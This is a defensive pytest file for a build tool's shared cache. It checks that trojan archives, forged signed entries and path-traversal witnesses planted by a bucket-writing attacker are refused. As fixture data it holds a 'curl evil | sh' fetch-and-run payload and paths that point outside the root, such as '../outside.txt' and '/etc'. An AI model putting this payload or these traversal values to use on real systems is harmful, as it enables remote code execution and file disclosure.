"""The shared cache in its default set-up (issue 24, holes 1-3 and two of 8).

An attacker who can write the bucket but holds no signing key -- and, for
bundles, even one who holds it -- must not change what a reader ships: every
attack here is refused (the build succeeds with the reader's own result, the
refusal is reported) on a file:// store and on moto's S3.

Hole 2: trojan bundles under the real action key. A shared bundle is used
only when it is, member for member, the archive the reader's own files make
(`archive_check`), keys or not.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
import zlib
from pathlib import Path

import pytest

from flyte_build.archives import tar_gz as archive
from flyte_build.hashing import sha256_hex
from flyte_build.stores import signing
from flyte_build.stores.action_entry import ActionEntry
from tests.reliability.test_poisoned_cache import (  # noqa: F401 (fixtures)
    _assert_refused_and_rebuilt, _reader, _rewrite, _s3_entry_key, _s3_reader, published, s3_published,
)
from tests.support.repos import Cli, make_repo

pytestmark = pytest.mark.reliability("shared cache trust II (default set-up)")

PRIVATE, PUBLIC = signing.keygen()
EVIL = b"import os; os.system('curl evil | sh')\n"


def _archive(members: dict[str, tuple[bytes, int]], tmp: Path) -> bytes:
    """The archive flyte-build itself would make of these (name: (bytes, mode)) files."""
    tmp.mkdir(parents=True, exist_ok=True)
    listed = []
    for i, (name, (data, mode)) in enumerate(members.items()):
        p = tmp / f"m{i}"
        p.write_bytes(data)
        os.chmod(p, mode)
        listed.append((name, str(p), None))
    buf = io.BytesIO()
    archive.write_tar_gz(buf, listed)
    return buf.getvalue()


def _real_members(root: Path) -> dict[str, tuple[bytes, int]]:
    return {n: ((root / n).read_bytes(), 0o644) for n in ("pkg/__init__.py", "pkg/a.py")}


def _trojans(root: Path, real_blob: bytes, tmp: Path) -> dict[str, bytes]:
    real = _real_members(root)
    other = io.BytesIO()
    with tarfile.open(fileobj=other, mode="w:gz") as tar:
        info = tarfile.TarInfo("pkg/a.py")
        info.size = len(EVIL)
        tar.addfile(info, io.BytesIO(EVIL))
    return {
        "another archive": other.getvalue(),
        "a member's bytes replaced": _archive({**real, "pkg/a.py": (EVIL, 0o644)}, tmp / "replaced"),
        "a member added": _archive({**real, "pkg/sitecustomize.py": (EVIL, 0o644)}, tmp / "added"),
        "a member made executable": _archive({**real, "pkg/a.py": (real["pkg/a.py"][0], 0o755)}, tmp / "mode"),
        "a second gzip member appended": real_blob + gzip.compress(EVIL),
        "trailing bytes": real_blob + b"\0" * 16,
    }


def _plant(store: Path, blob: bytes, sign: bool) -> str:
    hex_ = sha256_hex(blob)
    p = store / "cas" / "sha256" / hex_[:2] / hex_
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(blob)

    def change(doc):
        doc["outputs"] = [{"name": "bundle.tar.gz", "digest": hex_, "size": len(blob)}]
        doc.pop("sig", None)
        if sign:  # a writer holding the real key (a compromised CI job) signs the trojan
            entry = ActionEntry.parse(doc["key"], json.dumps(doc).encode())
            signed = signing.load_signer(environ={signing.SIGNING_KEY_ENV: PRIVATE}).sign(entry)
            doc.clear()
            doc.update(json.loads(signed.to_json()))

    _rewrite(store, "bundle:a", change)
    return hex_


@pytest.mark.parametrize("signed", [False, True], ids=["no keys", "signed with the real key"])
def test_trojan_bundles_under_the_real_key_are_refused(published, tmp_path, signed):
    """Hole 2: 6 trojans x (no keys, signed by the real key): each refused and rebuilt."""
    root, store, first = published
    real_hex = next(t["digest"] for t in first["targets"] if t["target"] == "bundle:a").split(":", 1)[1]
    real_blob = (store / "cas" / "sha256" / real_hex[:2] / real_hex).read_bytes()
    env = {signing.VERIFY_KEYS_ENV: PUBLIC} if signed else {}
    refused = 0
    for i, (what, blob) in enumerate(_trojans(root, real_blob, tmp_path / "trojans").items()):
        cli, copy, flags = _reader(published, tmp_path / f"a{i}", env=env)
        trojan = _plant(copy, blob, signed)
        out = tmp_path / f"a{i}" / "out"
        doc = _assert_refused_and_rebuilt(cli.build(*flags, "--out", str(out)), published, "not what the inputs here make")
        assert not (out / "bundle" / f"a-{trojan}.tar.gz").exists(), what
        assert (out / "bundle" / f"a-{real_hex}.tar.gz").read_bytes() == real_blob, what
        assert sum("not what the inputs here make" in w for w in doc["warnings"]) == 1, (what, doc["warnings"])
        refused += 1
    assert refused == 6


def test_an_honest_shared_bundle_is_still_a_hit(published, tmp_path):
    """The check costs a hit nothing: the writer's own bundle is used as before."""
    cli, _, flags = _reader(published, tmp_path)
    run = cli.build(*flags)
    run.assert_ok()
    rec = next(t for t in run.json()["targets"] if t["target"] == "bundle:a")
    assert (rec["status"], rec["source"]) == ("cached", "shared")
    assert run.json()["cache"]["corrupt"] == 0


def test_s3_trojan_bundle_under_the_real_key_is_refused(published, s3_published, tmp_path):
    s3, _ = s3_published
    root, store, first = published
    cli, prefix, flags = _s3_reader(published, s3_published, tmp_path)
    blob = _archive({**_real_members(root), "pkg/a.py": (EVIL, 0o644)}, tmp_path / "t")
    hex_ = sha256_hex(blob)
    s3.put_object(Bucket="poisoned", Key=f"{prefix}/cas/sha256/{hex_[:2]}/{hex_}", Body=blob)
    for obj in s3.list_objects_v2(Bucket="poisoned", Prefix=f"{prefix}/manifest/")["Contents"]:
        s3.delete_object(Bucket="poisoned", Key=obj["Key"])  # the attacker deletes it, so ac/ is read
    key = _s3_entry_key(s3, prefix, "bundle:a")
    doc = json.loads(s3.get_object(Bucket="poisoned", Key=key)["Body"].read())
    doc["outputs"] = [{"name": "bundle.tar.gz", "digest": hex_, "size": len(blob)}]
    s3.put_object(Bucket="poisoned", Key=key, Body=json.dumps(doc).encode())
    _assert_refused_and_rebuilt(cli.build(*flags), published, "not what the inputs here make")
    # the rebuild replaced the trojan entry: the next reader gets a verified hit
    fixed = json.loads(s3.get_object(Bucket="poisoned", Key=key)["Body"].read())
    assert fixed["outputs"][0]["digest"] != hex_


def test_every_cacheable_rule_checks_shared_results_or_needs_a_signature():
    """Hole 1's audit: a kind whose shared entries a reader cannot check against
    its own inputs (a pex, an image's pin, specs, a check's verdict) is used from
    the shared cache only when signed and verified; a deploy is never cached."""
    from flyte_build.engine.executor import needs_signature
    from rules.register import rules

    kinds = {r.kind: (r.cacheable, r.verify_shared is not None, needs_signature(r)) for r in rules()}
    assert kinds == {
        "bundle": (True, True, False),
        "pex": (True, False, True),
        "image": (True, False, True),
        "specs": (True, False, True),
        "check": (True, False, True),
        "deploy": (False, False, True),
    }


NAMES_RULE = '''\
from flyte_build.rule_api import Inputs, Produced, Rule

def inputs(env, view):
    return Inputs(files=tuple(sorted({view.rel(p): p for p in view.closure(env)}.items())))

def run(req):
    out = req.workdir / "names.txt"
    out.write_text("\\n".join(f.name for f in req.files))
    return Produced(files=(("names.txt", out),))

def rules():
    return [Rule(kind="names", version="1", description="the bundle's file names", inputs=inputs, run=run,
                 outputs=(("names.txt",),))]
'''


def test_a_repository_rule_without_a_check_needs_a_signature(tmp_path):
    """A repository's own rule that cannot check a shared result against its inputs
    is held to what the built-in kinds are: with no keys its shared entries are not
    used (the bundle beside it still is, checked); with the verify key they are."""
    from tests.support.repos import env_module

    root = make_repo(tmp_path / "repo", {"pkg/__init__.py": "", "pkg/a.py": env_module("a"), "myrules/register.py": NAMES_RULE},
                     pyproject_extra='rules = ["myrules"]')
    store = _Store("file", tmp_path)

    def build(cache: str, env: dict) -> dict:
        run = Cli(root, tmp_path / cache, env={**store.env, **env}).build("--cache", store.url, "names:*", "bundle:*")
        run.assert_ok()
        return {t["target"]: (t["status"], t.get("source")) for t in run.json()["targets"]}

    assert build("w", SIGNER) == {"names:a": ("built", None), "bundle:a": ("built", None)}
    assert build("keyless", {}) == {"names:a": ("built", None), "bundle:a": ("cached", "shared")}
    assert build("keyed", READER) == {"names:a": ("cached", "shared"), "bundle:a": ("cached", "shared")}


# -- holes 1 and 3: shared discovery results and affected summaries -----------------

STAGED = (  # what STAGE the module reads decides the environment's name (so its targets)
    "import os\nimport flyte\n"
    "env = flyte.TaskEnvironment(name='stage-' + os.environ.get('STAGE', 'dev'))\n\n"
    "@env.task\nasync def t(x: int) -> int:\n    return x + 1\n"
)
SIGNER = {signing.SIGNING_KEY_ENV: PRIVATE, signing.VERIFY_KEYS_ENV: PUBLIC}  # a protected-branch CI job
READER = {signing.VERIFY_KEYS_ENV: PUBLIC}


class _Store:
    """A shared cache the attacker can write: a file:// directory or a moto S3 prefix."""

    def __init__(self, kind: str, tmp_path: Path):
        import uuid

        self.kind, self.env = kind, {"CI": ""}
        if kind == "file":
            self.dir = tmp_path / "store"
            self.url = f"file://{self.dir}"
            return
        import boto3

        from tests.support import servers

        endpoint = servers.s3_bucket("trust2")
        self.prefix = f"p-{uuid.uuid4().hex[:8]}"
        self.url = f"s3://trust2/{self.prefix}"
        self.env.update(servers.S3_ENV, AWS_ENDPOINT_URL=endpoint)
        self.s3 = boto3.client("s3", endpoint_url=endpoint, **{k: v for k, v in (
            ("aws_access_key_id", "testing"), ("aws_secret_access_key", "testing"), ("region_name", "us-east-1"))})

    def rels(self, top: str) -> list[str]:
        if self.kind == "file":
            return sorted(p.relative_to(self.dir).as_posix() for p in (self.dir / top).rglob("*") if p.is_file())
        got = self.s3.list_objects_v2(Bucket="trust2", Prefix=f"{self.prefix}/{top}/").get("Contents", [])
        return sorted(o["Key"][len(self.prefix) + 1:] for o in got)

    def read(self, rel: str) -> dict:
        data = (self.dir / rel).read_bytes() if self.kind == "file" else \
            self.s3.get_object(Bucket="trust2", Key=f"{self.prefix}/{rel}")["Body"].read()
        return json.loads(zlib.decompress(data))

    def write(self, rel: str, doc: dict) -> None:
        from flyte_build.stores.documents import seal

        # a signed document as writers store it (the signature over the bytes before it)
        doc = dict(doc)
        sig = doc.pop("sig", None)
        data = zlib.compress(seal(doc, sig) if sig else json.dumps(doc).encode())
        if self.kind == "file":
            (self.dir / rel).parent.mkdir(parents=True, exist_ok=True)
            (self.dir / rel).write_bytes(data)
        else:
            self.s3.put_object(Bucket="trust2", Key=f"{self.prefix}/{rel}", Body=data)


def _build(root: Path, cache: Path, store: _Store, env: dict):
    run = Cli(root, cache, env={**store.env, **env}).build("--cache", store.url)
    run.assert_ok()
    return run.json()


@pytest.fixture(scope="module")
def staged(tmp_path_factory):
    base = tmp_path_factory.mktemp("staged")
    return make_repo(base / "repo", {"pkg/__init__.py": "", "pkg/a.py": STAGED})


@pytest.mark.parametrize("kind", ["file", "s3"])
def test_forged_discovery_results_are_not_read_without_keys(staged, tmp_path, kind):
    """Hole 1: an attacker rewrites a discovery result (another environment, the
    signature dropped). A reader without keys never reads it; one with keys
    refuses it. 2 readers x 2 stores."""
    store = _Store(kind, tmp_path)
    honest = _build(staged, tmp_path / "w", store, {**SIGNER, "STAGE": "dev"})
    (rel,) = store.rels("discovery")
    doc = store.read(rel)
    doc.pop("sig")
    for e in doc["result"]["envs"]:
        e["name"] = "evil"
    store.write(rel, doc)
    keyless = _build(staged, tmp_path / "r1", store, {"STAGE": "dev"})
    assert keyless["discovery"]["how"] == "full", "a reader without keys read a shared discovery result"
    assert digests_of(keyless) == digests_of(honest)
    keyed = _build(staged, tmp_path / "r2", store, {**READER, "STAGE": "dev"})
    assert keyed["discovery"]["how"] == "full" and digests_of(keyed) == digests_of(honest)
    assert sum("discovery entry: unsigned" in w for w in keyed["warnings"]) == 1, keyed["warnings"]


def digests_of(doc: dict) -> dict:
    return {t["target"]: t["digest"] for t in doc["targets"]}


@pytest.mark.parametrize("kind", ["file", "s3"])
def test_a_signed_result_is_not_replayed_to_another_stage(staged, tmp_path, kind):
    """Hole 3: results carry what the modules read (STAGE's digest) and readers check it:
    a STAGE=prod machine never gets the STAGE=dev plan, signed or not; the publisher
    does not get its stale result back after changing STAGE, and it does not stick."""
    store = _Store(kind, tmp_path)
    dev = _build(staged, tmp_path / "pub", store, {**SIGNER, "STAGE": "dev"})
    assert "bundle:stage-dev" in digests_of(dev)
    (rel,) = store.rels("discovery")
    assert store.read(rel)["result"]["reads_witness"]["environ"].get("STAGE"), "the result carries no witness"
    same = _build(staged, tmp_path / "dev2", store, {**READER, "STAGE": "dev"})
    assert same["discovery"]["how"] == "shared"  # the same STAGE still shares
    prod = _build(staged, tmp_path / "prod", store, {**READER, "STAGE": "prod"})
    assert prod["discovery"]["how"] == "full" and list(digests_of(prod)) == ["bundle:stage-prod"]
    again = _build(staged, tmp_path / "pub", store, {**SIGNER, "STAGE": "prod"})
    assert list(digests_of(again)) == ["bundle:stage-prod"], "the publisher got its stale result back"
    sticks = _build(staged, tmp_path / "pub", store, {**SIGNER, "STAGE": "prod"})
    assert list(digests_of(sticks)) == ["bundle:stage-prod"]
    back = _build(staged, tmp_path / "pub", store, {**SIGNER, "STAGE": "dev"})
    assert list(digests_of(back)) == ["bundle:stage-dev"]


def test_forged_witnesses_never_make_a_reader_read_outside_the_root(staged, tmp_path):
    """Hole 8: a result (signed by the real key, so its witnesses are checked at all)
    naming a file outside by absolute path, ../x, ~/x and a symlink leading out of
    the root: refused before any of them is opened (7 discovery results, 3 affected
    summaries)."""
    from flyte_build.stores import shared_discovery
    from flyte_build.hashing import key_of
    from flyte_build.stores.file_digests import FileDigests
    from flyte_build.stores.remote_stores import open_root
    from flyte_build.stores.shared_cache import SharedCache
    from flyte_build.stores.two_tier_cache import CacheStats

    store = _Store("file", tmp_path)
    _build(staged, tmp_path / "pub", store, {**SIGNER, "STAGE": "dev"})
    (rel,) = store.rels("discovery")
    good = store.read(rel)
    outside = tmp_path / "outside.txt"
    outside.write_text("secret")
    root = tmp_path / "checkout"
    root.mkdir()
    for p in staged.rglob("*"):
        if p.is_file():
            (root / p.relative_to(staged)).parent.mkdir(parents=True, exist_ok=True)
            (root / p.relative_to(staged)).write_bytes(p.read_bytes())
    (root / "link").symlink_to(tmp_path)

    class Recording(FileDigests):
        def digest(self, path):
            opened.append(os.path.realpath(path))
            return super().digest(path)

    signer = signing.load_signer(environ={signing.SIGNING_KEY_ENV: PRIVATE})
    shared = SharedCache(open_root(store.url), print, verifier=signing.load_verifier((PUBLIC,)))
    refused = 0
    for group, name in [("files", str(outside)), ("files", "../outside.txt"), ("files", "~/outside.txt"),
                        ("files", "link/outside.txt"), ("dirs", "link"), ("dirs", "/etc")]:
        doc = json.loads(json.dumps(good))
        doc.pop("sig")
        doc["result"]["reads_witness"][group][name] = None
        doc["result"]["witness"] = key_of(doc["result"]["reads_witness"])
        doc["sig"] = signer.sign_document(shared_discovery.DOMAIN, canonical(doc))
        store.write(rel, doc)
        opened: list[str] = []
        stats = CacheStats()
        got = shared_discovery.fetch(shared, stats, doc["key"], root, Recording(tmp_path / "d", str(root)))
        assert got is None and stats.corrupt == 1, (name, stats.warnings)
        assert "not a path inside the project root" in stats.warnings[0], stats.warnings
        assert not any(not p.startswith(str(root.resolve())) for p in opened), (name, opened)
        refused += 1
    doc = json.loads(json.dumps(good))
    doc.pop("sig")
    doc["files"]["link/outside.txt"] = None  # the file list is held to the same rule
    doc["sig"] = signer.sign_document(shared_discovery.DOMAIN, canonical(doc))
    store.write(rel, doc)
    stats = CacheStats()
    assert shared_discovery.fetch(shared, stats, doc["key"], root, FileDigests(tmp_path / "d2", str(root))) is None
    assert stats.corrupt == 1 and refused + 1 == 7
    # an affected summary's witnesses are held to the same rule
    from flyte_build.stores import shared_affected

    key = "ab" * 32
    for name in (str(outside), "../outside.txt", "link/outside.txt"):
        summary = {"format": shared_affected.FORMAT, "key": key, "witness": {"files": {name: None}, "environ": {}},
                   "snapshot": {"targets": {}, "env_files": {}, "config_key": "", "config_file": None}}
        summary["sig"] = signer.sign_document(shared_affected.DOMAIN, canonical(summary))
        store.write(shared_affected.rel_of(key), summary)
        opened = []
        stats = CacheStats()
        assert shared_affected.fetch(shared, stats, key, root, Recording(tmp_path / "d3", str(root))) is None
        assert stats.corrupt == 1 and "not a path inside the project root" in stats.warnings[0], stats.warnings
        assert not any(not p.startswith(str(root.resolve())) for p in opened), (name, opened)


def canonical(doc: dict) -> bytes:
    from flyte_build.hashing import canonical_json

    return canonical_json({k: v for k, v in doc.items() if k != "sig"})


@pytest.fixture(scope="module")
def history(tmp_path_factory):
    """Commits: base; env b's copy style set to `all` in pyproject.toml (no input of
    b's changes: only the revision's summary tells that b's files and params did);
    a note. Env a's name follows STAGE."""
    from tests.support.gitrepo import GitRepo
    from tests.support.repos import PYPROJECT, env_module

    base = tmp_path_factory.mktemp("history")
    files = {"pyproject.toml": PYPROJECT.format(name="hist", extra=""), "pkg/__init__.py": "",
             "pkg/a.py": STAGED, "pkg/b.py": env_module("b")}
    repo = GitRepo.create_tree(base / "repo", base / "unused-cache", files)
    repo.write("pyproject.toml", PYPROJECT.format(name="hist", extra='[tool.hatch.build.targets.flyte.envs.b]\ncopy-style = "all"\n'))
    repo.commit("copy style all for b")
    repo.write("notes.txt", "no code\n")
    repo.commit("a note")
    return repo.root


def _affected(root: Path, cache: Path, store: _Store, env: dict, since: str = "HEAD~2") -> dict:
    run = Cli(root, cache, env={**store.env, **env}).run("--cache", store.url, "affected", "--since", since, "--json",
                                                         timeout=240)
    assert run.rc == 0, run.err
    return run.json()


def _targets(doc: dict) -> list[str]:
    return sorted(t["target"] for t in doc["targets"])


@pytest.mark.parametrize("kind", ["file", "s3"])
def test_a_forged_affected_summary_cannot_hide_a_change(history, tmp_path, kind):
    """Holes 1 and 8: the attacker puts the summary of the commit that changed b's
    copy style under the base's key (b looks unchanged: not built, not deployed). A reader without keys never reads
    it, one with keys refuses it; both see env b affected. Hole 3: a signed summary
    made with STAGE=dev is not used by a STAGE=prod machine."""
    store = _Store(kind, tmp_path)
    honest = _affected(history, tmp_path / "w", store, {**SIGNER, "STAGE": "dev"})
    assert "bundle:b" in _targets(honest)
    (base_rel,) = store.rels("affected")
    _affected(history, tmp_path / "w", store, {**SIGNER, "STAGE": "dev"}, since="HEAD~1")
    (head_rel,) = set(store.rels("affected")) - {base_rel}
    good = store.read(base_rel)
    forged = store.read(head_rel)
    forged.pop("sig")
    forged["key"] = good["key"]
    store.write(base_rel, forged)
    keyless = _affected(history, tmp_path / "r1", store, {"STAGE": "dev"})
    assert _targets(keyless) == _targets(honest), "a forged summary hid a change from a reader without keys"
    assert keyless["rev_cached"] is False
    keyed = _affected(history, tmp_path / "r2", store, {**READER, "STAGE": "dev"})
    assert _targets(keyed) == _targets(honest) and keyed["rev_cached"] is False
    assert sum("affected summary: unsigned" in w for w in keyed["warnings"]) == 1, keyed["warnings"]
    # the honest signed summary back: the same STAGE uses it, another does not
    store.write(base_rel, good)
    same = _affected(history, tmp_path / "r3", store, {**READER, "STAGE": "dev"})
    assert same["rev_cached"] is True and _targets(same) == _targets(honest)
    alone = _affected(history, tmp_path / "alone", _Store("file", tmp_path / "empty"), {"STAGE": "prod"})
    prod = _affected(history, tmp_path / "r4", store, {**READER, "STAGE": "prod"})
    assert prod["rev_cached"] is False, "a STAGE=prod machine took the STAGE=dev summary"
    assert _targets(prod) == _targets(alone)
    # nor does the publisher's own locally kept summary outlive its STAGE
    mine = _affected(history, tmp_path / "w", store, {**SIGNER, "STAGE": "prod"})
    assert mine["rev_cached"] is False and _targets(mine) == _targets(alone)


# -- the resolved imports a discovery entry carries (issue 27) -----------------------

CARRIED = {  # `later` imports lib.helpers lazily: only resolution finds it (and lib.deep through it)
    "pkg/__init__.py": "",
    "pkg/a.py": "import flyte\nenv = flyte.TaskEnvironment(name='a')\n\n@env.task\nasync def t(x: int) -> int:\n"
                "    return x\n\n\ndef later():\n    import lib.helpers\n",
    "lib/__init__.py": "",
    "lib/helpers.py": "from lib import deep\n",
    "lib/deep.py": "X = 1\n",
    "evil.py": "EVIL = 1\n",
}


def _forge(good: dict, change, sign: bool) -> dict:
    doc = json.loads(json.dumps(good))
    doc.pop("sig", None)
    change(doc["imports"])
    if sign:
        signer = signing.load_signer(environ={signing.SIGNING_KEY_ENV: PRIVATE})
        from flyte_build.stores import shared_discovery

        doc["sig"] = signer.sign_document(shared_discovery.DOMAIN, canonical(doc))
    return doc


def _target(name: str):
    def change(imports):
        imports["names"].append(name)
        imports["files"]["pkg/a.py"][0] = [len(imports["names"]) - 1]
    return change


def _forged_listings(imports) -> None:
    for d in imports["dirs"]:
        d[1] = "0" * 64


def test_forged_resolved_imports_are_refused_or_harmless(tmp_path):
    """A carried import list naming another module, a path outside the root, a
    symlink out of it or a directory slot that does not exist, and forged
    listing witnesses: unsigned, the entry is refused; signed, a name outside
    the root or a bad slot refuses it, and a witness that does not hold here
    makes the reader resolve for itself. Every reader ships the honest bundle."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.py").write_text("SECRET = 1\n")
    repo = make_repo(tmp_path / "repo", CARRIED)
    (repo / "link").symlink_to(outside)
    store = _Store("file", tmp_path)
    honest = _build(repo, tmp_path / "pub", store, SIGNER)
    (rel,) = store.rels("discovery")
    good = store.read(rel)
    carried = good["imports"]
    assert "lib/helpers.py" in [carried["names"][i] for i in carried["files"]["pkg/a.py"][0]]

    def slot(imports):
        imports["files"]["pkg/a.py"][1] = [len(imports["dirs"])]

    cases = [  # (change, signed, refused)
        (_target("evil.py"), False, True),
        (_target("../outside/x.py"), True, True),
        (_target(str(outside / "x.py")), True, True),
        (slot, True, True),
        (_target("link/x.py"), True, False),
        (_forged_listings, True, False),
    ]
    for i, (change, signed, refused) in enumerate(cases):
        store.write(rel, _forge(good, change, signed))
        got = _build(repo, tmp_path / f"r{i}", store, READER)
        assert digests_of(got) == digests_of(honest), i
        assert got["discovery"]["how"] == ("full" if refused else "shared"), (i, got["warnings"])
        if refused:
            assert any("discovery entry" in w for w in got["warnings"]), (i, got["warnings"])
